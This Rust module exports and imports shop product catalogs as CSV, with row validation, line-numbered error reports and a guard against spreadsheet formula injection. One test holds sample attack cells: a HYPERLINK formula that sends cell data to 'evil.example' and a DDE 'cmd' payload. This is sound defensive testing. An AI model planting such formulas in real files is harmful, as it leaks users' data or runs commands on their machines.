//! Catalog files, the way shop teams move catalogs between platforms: CSV (UTF-8, comma,
//! RFC 4180 quoting) with the header `id,title,description,code,price,status,stock,category,
//! thumbnails`, `status` as `true`/`false`, thumbnails separated by single spaces.
//!
//! Reading checks every row with the product rules before anything changes, and reports the
//! rows at fault by line as a spreadsheet numbers them (the header is line 1; a row is numbered
//! by the line it starts on, whatever its line endings and however many lines its quoted
//! fields span), so a file is taken whole or not at all. It reads the file row by row and keeps
//! at most [`FAULTS_LISTED`] faults, so what it holds is bounded by the file's size whatever the
//! file holds.
//!
//! Text cells that a spreadsheet would run as a formula (starting with `=`, `+`, `-`, `@`, a
//! tab or a carriage return) are written behind a `'`, which reading takes away again (OWASP's
//! "CSV injection"), so an exported file imports back to the same products.

use std::collections::HashMap;

use serde_json::{Map, Value};

use crate::store::ImportRow;
use app::domain::counting::thousands;
use app::domain::{FieldErrors, Invalid, NewProduct, Product, RowFault};

/// The columns, in the order the export writes them.
pub const COLUMNS: [&str; 9] = [
    "id",
    "title",
    "description",
    "code",
    "price",
    "status",
    "stock",
    "category",
    "thumbnails",
];
/// Columns an import must have; `id` is ignored, `status` and `thumbnails` may be absent.
const REQUIRED: [&str; 6] = ["title", "description", "code", "price", "stock", "category"];
/// Rows at fault listed in one answer; a file with more says how many in all.
const FAULTS_LISTED: usize = 1000;
/// The most rows one file may hold: a catalog of a few hundred thousand products still fits,
/// and the memory a file of tiny rows asks for stays bounded.
pub const ROWS_MAX: usize = 250_000;

/// What a spreadsheet takes as the start of a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `text`, written as it is, would run as a formula: it starts with a formula's
/// character, or with `'`s in front of one (so that the guard of a text that already starts
/// with `'` is taken away exactly once).
fn needs_guard(text: &str) -> bool {
    text.trim_start_matches('\'').starts_with(FORMULA_STARTS)
}

/// A text cell as written: behind a `'` when it would run as a formula.
fn guarded(text: &str) -> String {
    if needs_guard(text) {
        format!("'{text}")
    } else {
        text.to_string()
    }
}

/// A text cell as read: without the guard [`guarded`] put in front of it.
fn unguarded(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_guard(rest) => rest,
        _ => cell,
    }
}

/// Writes `products` as the catalog file.
pub fn write<'a>(products: impl Iterator<Item = &'a Product>) -> Vec<u8> {
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer.write_record(COLUMNS).expect("writing to memory");
    for p in products {
        writer
            .write_record([
                p.id.to_string(),
                guarded(&p.title),
                guarded(&p.description),
                guarded(&p.code),
                p.price.to_string(),
                p.status.to_string(),
                p.stock.to_string(),
                guarded(&p.category),
                guarded(&p.thumbnails.join(" ")),
            ])
            .expect("writing to memory");
    }
    writer.into_inner().expect("writing to memory")
}

/// Reads and checks a whole catalog file.
pub fn read(body: &[u8]) -> Result<Vec<ImportRow>, Invalid> {
    let mut reader = csv::ReaderBuilder::new().flexible(false).from_reader(body);
    let header: Vec<String> = reader
        .headers()
        .map_err(|e| Invalid::new(format!("No se pudo leer el encabezado del CSV: {e}")))?
        .iter()
        .map(|name| {
            name.trim()
                .trim_start_matches('\u{feff}')
                .to_ascii_lowercase()
        })
        .collect();
    let column = |name: &str| header.iter().position(|h| h == name);
    let missing: Vec<&str> = REQUIRED
        .into_iter()
        .filter(|c| column(c).is_none())
        .collect();
    if !missing.is_empty() {
        return Err(Invalid::new(format!(
            "Al CSV le faltan columnas: {} (la primera fila debe nombrarlas)",
            missing.join(", ")
        )));
    }
    let (status_at, thumbnails_at) = (column("status"), column("thumbnails"));
    let mut rows = Vec::new();
    let mut faults = Faults::default();
    let mut lines = Lines::new(body);
    let mut first_line_of_code: HashMap<String, u64> = HashMap::new();
    for (read, record) in reader.records().enumerate() {
        if read == ROWS_MAX {
            return Err(Invalid::new(format!(
                "El CSV tiene más de {} filas: dividilo en archivos más chicos",
                thousands(ROWS_MAX as u64)
            )));
        }
        let record = match record {
            Ok(record) => record,
            Err(e) => {
                let line = e.position().map_or(0, |p| lines.at(p.byte()));
                faults.push(RowFault {
                    line,
                    fields: FieldErrors::from([("row".into(), unreadable(&e))]),
                });
                continue;
            }
        };
        let line = record.position().map_or(0, |p| lines.at(p.byte()));
        let cell =
            |at: Option<usize>| unguarded(at.and_then(|at| record.get(at)).unwrap_or_default());
        let mut object = Map::new();
        let mut fields = FieldErrors::new();
        for name in ["title", "description", "code", "category"] {
            object.insert(name.into(), Value::String(cell(column(name)).into()));
        }
        match parse_price(cell(column("price"))) {
            Some(price) => {
                object.insert("price".into(), price);
            }
            None => {
                fields.insert(
                    "price".into(),
                    "debe ser un número mayor o igual a 0".into(),
                );
            }
        }
        match cell(column("stock")).trim().parse::<u64>() {
            Ok(stock) => {
                object.insert("stock".into(), stock.into());
            }
            Err(_) => {
                fields.insert(
                    "stock".into(),
                    "debe ser un número entero mayor o igual a 0".into(),
                );
            }
        }
        if status_at.is_some() {
            match parse_status(cell(status_at)) {
                Some(status) => {
                    object.insert("status".into(), status.into());
                }
                None => {
                    fields.insert("status".into(), "debe ser true o false".into());
                }
            }
        }
        let thumbnails: Vec<Value> = cell(thumbnails_at)
            .split_whitespace()
            .map(|t| Value::String(t.into()))
            .collect();
        object.insert("thumbnails".into(), Value::Array(thumbnails));
        let product = match NewProduct::from_json(&Value::Object(object)) {
            Ok(product) if fields.is_empty() => Some(product),
            Ok(_) => None,
            Err(invalid) => {
                fields.extend(invalid.fields);
                None
            }
        };
        if let Some(product) = &product {
            if let Some(first) = first_line_of_code.insert(product.code.clone(), line) {
                fields.insert(
                    "code".into(),
                    format!("el código se repite: ya está en la línea {first}"),
                );
            }
        }
        match product {
            // Once a row is at fault nothing is imported: the good rows are not kept.
            Some(product) if fields.is_empty() && faults.total == 0 => rows.push(ImportRow {
                product,
                has_status: status_at.is_some(),
                has_thumbnails: thumbnails_at.is_some(),
            }),
            Some(_) if fields.is_empty() => {}
            _ => {
                rows = Vec::new();
                faults.push(RowFault { line, fields });
            }
        }
    }
    if faults.total == 0 {
        return Ok(rows);
    }
    let Faults { total, listed } = faults;
    let error = match total {
        1 => "Una fila del CSV no es válida; no se importó nada".to_string(),
        n if n > FAULTS_LISTED => format!(
            "{n} filas del CSV no son válidas (se listan las primeras {FAULTS_LISTED}); no se importó nada"
        ),
        n => format!("{n} filas del CSV no son válidas; no se importó nada"),
    };
    Err(Invalid {
        rows: listed,
        ..Invalid::new(error)
    })
}

/// The rows at fault: how many, and the first [`FAULTS_LISTED`] of them.
#[derive(Default)]
struct Faults {
    total: usize,
    listed: Vec<RowFault>,
}

impl Faults {
    fn push(&mut self, fault: RowFault) {
        self.total += 1;
        if self.listed.len() < FAULTS_LISTED {
            self.listed.push(fault);
        }
    }
}

/// Line numbers as a spreadsheet shows them, from byte offsets into the file: a line ends at
/// each `\n` (CRLF and LF alike). Offsets come in increasing order, so the file is counted
/// through once.
struct Lines<'a> {
    body: &'a [u8],
    /// The offset counted up to, and the line it is on.
    offset: usize,
    line: u64,
}

impl<'a> Lines<'a> {
    fn new(body: &'a [u8]) -> Self {
        Lines {
            body,
            offset: 0,
            line: 1,
        }
    }

    /// The line of the record that csv places at `offset`. csv places a record after a
    /// CRLF's `\r` (on its `\n`) and before blank lines it skips, so the record's own first
    /// byte is the first one after `offset` that ends no line.
    fn at(&mut self, offset: u64) -> u64 {
        let mut offset = (offset as usize).min(self.body.len());
        while matches!(self.body.get(offset), Some(b'\r' | b'\n')) {
            offset += 1;
        }
        if offset >= self.offset {
            let newlines = self.body[self.offset..offset]
                .iter()
                .filter(|&&b| b == b'\n');
            self.line += newlines.count() as u64;
            self.offset = offset;
        }
        self.line
    }
}

/// Why a row cannot be read, in the file's terms.
fn unreadable(error: &csv::Error) -> String {
    match error.kind() {
        csv::ErrorKind::UnequalLengths {
            expected_len, len, ..
        } => format!("tiene {len} columnas y el encabezado {expected_len}"),
        csv::ErrorKind::Utf8 { .. } => "no está en UTF-8".to_string(),
        _ => "no se pudo leer".to_string(),
    }
}

/// A price as exported (`1234.5`), or as a Spanish spreadsheet writes it (`1234,5`).
fn parse_price(raw: &str) -> Option<Value> {
    let raw = raw.trim();
    let parsed = raw
        .parse::<f64>()
        .ok()
        .or_else(|| raw.replace(',', ".").parse::<f64>().ok())?;
    serde_json::Number::from_f64(parsed).map(Value::Number)
}

fn parse_status(raw: &str) -> Option<bool> {
    match raw.trim().to_lowercase().as_str() {
        "true" | "1" | "sí" | "si" | "yes" => Some(true),
        "false" | "0" | "no" => Some(false),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn product(id: u64, code: &str) -> Product {
        Product {
            id,
            title: "Regla, \"grande\"".into(),
            description: "dos\nlíneas".into(),
            code: code.into(),
            price: 1234.5,
            status: false,
            stock: 3,
            category: "útiles".into(),
            thumbnails: vec!["/a.png".into(), "https://b.example/b.png".into()],
        }
    }

    #[test]
    fn what_is_written_reads_back_the_same() {
        let written = write([product(1, "A"), product(2, "B")].iter());
        let text = String::from_utf8(written.clone()).unwrap();
        assert!(
            text.starts_with("id,title,description,code,price,status,stock,category,thumbnails\n")
        );
        assert!(text.contains("\"Regla, \"\"grande\"\"\""), "{text}");
        let rows = read(&written).unwrap();
        assert_eq!(rows.len(), 2);
        let expected = product(1, "A");
        assert_eq!(rows[0].product.title, expected.title);
        assert_eq!(rows[0].product.description, expected.description);
        assert_eq!(rows[0].product.price, 1234.5);
        assert!(!rows[0].product.status);
        assert_eq!(rows[0].product.thumbnails, expected.thumbnails);
        assert!(rows[0].has_status && rows[0].has_thumbnails);
    }

    #[test]
    fn columns_in_any_order_and_optional_ones_absent() {
        let file = "code,price,stock,category,description,title\nX-1,\"12,5\",4,c,d,t\n";
        let rows = read(file.as_bytes()).unwrap();
        assert_eq!(rows[0].product.code, "X-1");
        assert_eq!(rows[0].product.price, 12.5);
        assert!(rows[0].product.status, "a new product's default");
        assert!(!rows[0].has_status && !rows[0].has_thumbnails);
    }

    #[test]
    fn every_row_at_fault_is_named_by_line() {
        let file = "title,description,code,price,stock,category\n\
                    ok,d,A,1,1,c\n\
                    ,d,B,-1,x,c\n\
                    dup,d,A,1,1,c\n";
        let invalid = read(file.as_bytes()).unwrap_err();
        assert_eq!(invalid.rows.len(), 2, "{invalid:?}");
        assert_eq!(invalid.rows[0].line, 3);
        let fields: Vec<_> = invalid.rows[0].fields.keys().cloned().collect();
        assert_eq!(fields, ["price", "stock", "title"]);
        assert_eq!(invalid.rows[1].line, 4);
        assert!(invalid.rows[1].fields["code"].contains("línea 2"));
        let missing = read(b"title,code\nx,y\n").unwrap_err();
        assert!(missing.error.contains("description"), "{}", missing.error);
    }

    /// The lines of the faulty rows of `file`.
    fn fault_lines(file: &str) -> Vec<u64> {
        read(file.as_bytes())
            .unwrap_err()
            .rows
            .iter()
            .map(|fault| fault.line)
            .collect()
    }

    #[test]
    fn rows_are_numbered_as_a_spreadsheet_shows_them_whatever_the_line_endings() {
        let rows = [
            "ok,d,A,1,1,c",
            "ok,d,B,1,1,c",
            "ok,d,C,1,1,c",
            "mal,d,D,caro,1,c",
        ];
        let header = "title,description,code,price,stock,category";
        // LF (LibreOffice), and CRLF with a byte order mark (Excel's "CSV UTF-8").
        let lf = format!("{header}\n{}\n", rows.join("\n"));
        let crlf = format!("\u{feff}{header}\r\n{}\r\n", rows.join("\r\n"));
        assert_eq!(fault_lines(&lf), [5]);
        assert_eq!(fault_lines(&crlf), [5]);
        // A blank line csv skips still counts as a line.
        assert_eq!(
            fault_lines(&format!("{header}\r\n\r\n{}\r\n", rows[3])),
            [3]
        );
        // A quoted field that spans lines: the next row starts further down, and a row is
        // numbered by the line it starts on.
        let spanning = format!(
            "{header}\r\n\"dos\r\nlíneas\",d,A,1,1,c\r\n\"tres\nlíneas\nmás\",d,B,x,1,c\r\nok,d,A,1,1,c\r\n"
        );
        let invalid = read(spanning.as_bytes()).unwrap_err();
        let lines: Vec<u64> = invalid.rows.iter().map(|f| f.line).collect();
        assert_eq!(lines, [4, 7]);
        assert!(
            invalid.rows[1].fields["code"].contains("línea 2"),
            "{invalid:?}"
        );
    }

    #[test]
    fn a_file_of_faults_keeps_only_the_first_thousand_and_says_how_many() {
        let mut file = String::from("title,description,code,price,stock,category\n");
        for _ in 0..5000 {
            file.push_str("a\n");
        }
        let invalid = read(file.as_bytes()).unwrap_err();
        assert_eq!(invalid.rows.len(), FAULTS_LISTED);
        assert!(invalid.error.contains("5000"), "{}", invalid.error);
        assert_eq!(invalid.rows[0].line, 2);
        assert!(
            invalid.rows[0].fields["row"].contains("columnas"),
            "{invalid:?}"
        );
    }

    #[test]
    fn a_file_of_too_many_rows_is_refused() {
        let mut file = String::from("title,description,code,price,stock,category\n");
        for n in 0..=ROWS_MAX {
            file.push_str(&format!("t,d,C{n},1,1,c\n"));
        }
        let invalid = read(file.as_bytes()).unwrap_err();
        assert!(invalid.error.contains("250.000"), "{}", invalid.error);
    }

    #[test]
    fn formulas_are_exported_behind_a_quote_and_imported_back_the_same() {
        let texts = [
            "=HYPERLINK(\"https://evil.example/?d=\"&B2,\"Ver foto\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+54 11 5555",
            "-30 cm",
            "\tsangría",
            "\rretorno",
            "'=ya con comilla",
            "'comilla sola",
            "''=dos comillas",
            "normal",
        ];
        let products: Vec<Product> = texts
            .iter()
            .enumerate()
            .map(|(n, text)| Product {
                title: text.to_string(),
                category: text.to_string(),
                ..product(n as u64 + 1, &format!("C{n}"))
            })
            .collect();
        let written = write(products.iter());
        let text = String::from_utf8(written.clone()).unwrap();
        for line in text
            .lines()
            .skip(1)
            .filter(|l| l.starts_with(char::is_numeric))
        {
            let title = line.split(',').nth(1).unwrap().trim_start_matches('"');
            assert!(
                !title.starts_with(FORMULA_STARTS),
                "a cell a spreadsheet would run: {line}"
            );
        }
        let rows = read(&written).unwrap();
        for (row, text) in rows.iter().zip(texts) {
            assert_eq!(row.product.title, text.trim(), "title");
            assert_eq!(row.product.category, text.trim(), "category");
        }
    }
}
